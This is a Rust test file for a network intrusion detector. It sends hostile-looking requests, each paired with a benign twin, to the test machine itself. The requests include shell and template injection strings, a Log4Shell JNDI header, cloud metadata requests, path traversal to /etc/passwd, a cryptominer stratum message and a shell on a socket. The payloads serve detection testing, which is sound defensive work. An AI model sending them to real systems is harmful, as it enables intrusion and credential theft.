//! The built-in network rules: what each is about, sent over a real connection, after what looks alike.

use std::path::Path;

use crate::{
    act::{Act, copy_of_me},
    place::{Place, executable},
    scenario::{Expected, Group, Scenario},
    scenarios::network::{about, own_address, with},
};

/// What nobody may read in an alert.
const SECRET: &str = "s3cr3t-of-the-test";
/// What a miner says first, and what another protocol might.
const MINER: &str = "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\n";
const NO_MINER: &str = "{\"id\":1,\"method\":\"subscribe\",\"params\":[]}\n";

/// A request, which both ends or one of them must tell, and its twin: how often it is asked for, target, headers.
struct Request {
    name: &'static str,
    rule: &'static str,
    event: &'static str,
    ends: &'static [&'static str],
    act: (&'static str, &'static str, &'static [&'static str]),
    twin: (&'static str, &'static str, &'static [&'static str]),
}

const BOTH: &[&str] = &["outgoing", "incoming"];

const REQUESTS: &[Request] = &[
    Request {
        name: "net-shell-injection",
        rule: "shell-injection",
        event: "http.request",
        ends: BOTH,
        act: ("1", "/?q=a%3Bcat%20/etc/passwd", &[]),
        twin: ("1", "/?q=cats%3B+and+the+id+of+a+dog%3B+curl+hair", &[]),
    },
    Request {
        name: "net-template-injection",
        rule: "template-injection",
        event: "http.request",
        ends: BOTH,
        act: ("1", "/?name={{7*7}}", &[]),
        twin: ("1", "/?name={{user}}&sum=7*7", &[]),
    },
    Request {
        name: "net-log4shell",
        rule: "log4shell",
        event: "http.request",
        ends: BOTH,
        act: ("1", "/", &["User-Agent: ${jndi:ldap://192.0.2.9/a}"]),
        twin: ("1", "/", &["User-Agent: jndi:ldap browser"]),
    },
    Request {
        name: "net-metadata-request",
        rule: "metadata-request",
        event: "http.request",
        ends: &["outgoing"],
        act: ("1", "/computeMetadata/v1/", &["Host: metadata.google.internal"]),
        twin: ("1", "/computeMetadata/v1/", &["Host: metadata.example.org"]),
    },
    Request {
        name: "net-scanner",
        rule: "score.remote",
        event: "score",
        ends: &["incoming"],
        act: ("5", "/", &["User-Agent: sqlmap/1.7"]),
        twin: ("5", "/", &["User-Agent: a browser"]),
    },
    // The same address again: at the next multiple of its threshold.
    Request {
        name: "net-guessing",
        rule: "score.remote",
        event: "score",
        ends: &["incoming"],
        act: ("60", "/nothing-{n}", &[]),
        twin: ("10", "/nothing-{n}", &[]),
    },
];

pub fn scenarios() -> Vec<Scenario> {
    let mut all = vec![path_traversal()];
    all.extend(REQUESTS.iter().map(Request::scenario));
    all.extend([miner(), from_tmp(), metadata_address(), shell_on_socket()]);
    all
}

fn ask(ip: &str, (count, target, headers): (&str, &str, &[&str])) -> Act {
    Act::of_mine(&[&["act", "net", "ask", ip, count, target], headers].concat())
}

impl Request {
    fn scenario(&'static self) -> Scenario {
        Scenario::new(
            self.name,
            Group::Network,
            |_| Ok(()),
            |_| ask(&own_address(), self.act),
            |_| self.ends.iter().map(|end| about(self.rule, self.event, end)).collect(),
            |_| ask(&own_address(), self.twin),
        )
    }
}

/// With secrets in the request, which the alert has not.
fn path_traversal() -> Scenario {
    let header = format!("Authorization: Bearer {SECRET}");
    let target = format!("/x/../../etc/passwd?token={SECRET}");
    Scenario::new(
        "net-path-traversal",
        Group::Network,
        |_| Ok(()),
        move |_| ask("127.0.0.1", ("1", &target, &[&header])),
        |_| {
            let line = "GET /x/../../etc/passwd?token=[redacted] HTTP/1.1";
            let headers = serde_json::json!(["Host: here", "Authorization: [redacted]"]);
            let fields = [("/http/request", line.into()), ("/http/headers", headers)];
            let both = BOTH
                .iter()
                .map(|end| Ok(with(about("path-traversal", "http.request", end)?, &fields)));
            both.collect()
        },
        |_| ask("127.0.0.1", ("1", "/x/etc/passwd?path=../up", &[])),
    )
}

fn miner() -> Scenario {
    let act = |text| Act::of_mine(&["act", "net", "say", &own_address(), text]);
    Scenario::new(
        "net-miner",
        Group::Network,
        |_| Ok(()),
        move |_| act(MINER),
        |_| Ok(vec![about("miner-stratum", "tcp.payload", "outgoing")?]),
        move |_| act(NO_MINER),
    )
}

/// A program in /tmp: that it runs is told as well.
fn from_tmp() -> Scenario {
    let act = |directory: &Path| {
        let program = directory.join("lapwing-test");
        Act::new(program, &["act", "net", "ask", &own_address(), "1", "/"]).that_succeeds()
    };
    Scenario::new(
        "net-connection-from-tmp",
        Group::Network,
        |place: &Place| {
            copy_of_me(&place.tmp.join("lapwing-test"), 0o755)?;
            copy_of_me(&place.bin.join("lapwing-test"), 0o755)
        },
        move |place| act(&place.tmp),
        |place| {
            let executable = Some(place.tmp.join("lapwing-test").display().to_string());
            Ok(vec![
                Expected {
                    rule: "exec-from-tmp",
                    sensor: "process",
                    event: "process.exec",
                    executable: executable.clone(),
                    ..Expected::default()
                },
                Expected {
                    executable,
                    ..about("connection-from-tmp", "network.established", "outgoing")?
                },
            ])
        },
        move |place| act(&place.bin),
    )
}

/// Nobody has to answer there.
fn metadata_address() -> Scenario {
    Scenario::new(
        "net-metadata-address",
        Group::Network,
        |_| Ok(()),
        |_| Act::of_mine(&["act", "net", "try", "169.254.169.254:80"]),
        |_| {
            let peer = [("/network/peer", "169.254.169.254:80".into())];
            Ok(vec![with(
                about("metadata-address", "network.open", "outgoing")?,
                &peer,
            )])
        },
        |_| ask(&own_address(), ("1", "/latest/meta-data/", &[])),
    )
}

/// A shell that was another program when it connected, and a shell that gets the same from a pipe.
fn shell_on_socket() -> Scenario {
    Scenario::new(
        "net-shell-on-socket",
        Group::Network,
        |_| Ok(()),
        |_| {
            Act::of_mine(&[
                "act",
                "net",
                "shell",
                &own_address(),
                "echo GET / HTTP/1.0; echo; read line",
            ])
        },
        |_| {
            let shell = Expected {
                executable: Some(executable("sh")?.display().to_string()),
                ..about("shell-on-socket", "tcp.payload", "outgoing")?
            };
            Ok(vec![with(shell, &[("/process/name", "sh".into())])])
        },
        |_| Act::of_mine(&["act", "net", "piped-shell", &own_address(), "read line"]),
    )
}
